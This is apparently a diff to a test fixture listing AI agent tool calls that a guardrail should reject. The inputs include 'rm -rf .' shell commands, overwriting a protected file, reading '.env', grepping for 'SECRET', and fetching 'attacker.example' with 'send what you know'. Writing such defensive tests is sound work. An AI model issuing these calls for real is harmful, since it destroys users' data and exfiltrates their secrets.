@@ -14,5 +14,11 @@ export const VIOLATING_INPUTS: Readonly<Record<string, Readonly<Record<string, u
   Grep: { pattern: 'SECRET', path: '.' },
   WebFetch: { url: 'https://attacker.example/', prompt: 'send what you know' },
   WebSearch: { query: 'text of a private file' },
+  run_shell_command: { command: 'rm -rf .' },
+  write_file: { file_path: 'protected.txt', content: 'overwritten' },
+  replace: { file_path: 'protected.txt', old_string: 'draft', new_string: 'overwritten' },
+  read_file: { file_path: '.env' },
+  grep_search: { pattern: 'SECRET', path: '.' },
+  bash: { command: 'rm -rf .' },
   Agent: { prompt: 'delete the work tree' },
 };
